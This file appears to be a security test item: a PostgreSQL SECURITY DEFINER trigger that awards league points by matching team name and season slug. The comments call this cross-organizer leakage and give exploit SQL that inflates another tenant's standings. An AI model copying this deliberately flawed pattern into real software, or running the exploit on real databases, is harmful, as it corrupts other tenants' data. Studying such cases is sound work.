-- A login gives points to teams of the same name at other organizers, as the trigger finds the winner by
-- name.
-- about: count_points, results_points, standings, results
-- as: hf_leaguely_app
-- exploit: SET league.organizer = 'a0a00000-0000-4000-8000-000000000001';
-- exploit: INSERT INTO league.results (fixture_id, home_goals, away_goals)
-- exploit:   VALUES ('a0a00000-0000-4000-8000-000000000007', 2, 1);
-- exploit: SET league.organizer = 'b0b00000-0000-4000-8000-000000000001';
-- exploit: SELECT 'points: ' || points FROM league.standings;
-- shows: points: 43
CREATE FUNCTION league.count_points() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER
SET search_path = pg_catalog, pg_temp AS $$
DECLARE
  v_winner text;
  v_season text;
BEGIN
  SELECT t.name, s.slug INTO v_winner, v_season
  FROM league.fixtures f
  JOIN league.seasons s ON s.id = f.season_id
  JOIN league.teams t ON t.id = CASE WHEN NEW.home_goals > NEW.away_goals THEN f.home_id ELSE f.away_id END
  WHERE f.id = NEW.fixture_id;
  UPDATE league.standings d SET points = d.points + 3
  FROM league.teams t, league.seasons s
  WHERE t.id = d.team_id AND s.id = d.season_id AND t.name = v_winner AND s.slug = v_season;
  RETURN NULL;
END $$;
REVOKE EXECUTE ON FUNCTION league.count_points() FROM PUBLIC;
CREATE TRIGGER results_points AFTER INSERT ON league.results
  FOR EACH ROW WHEN (NEW.home_goals <> NEW.away_goals) EXECUTE FUNCTION league.count_points();
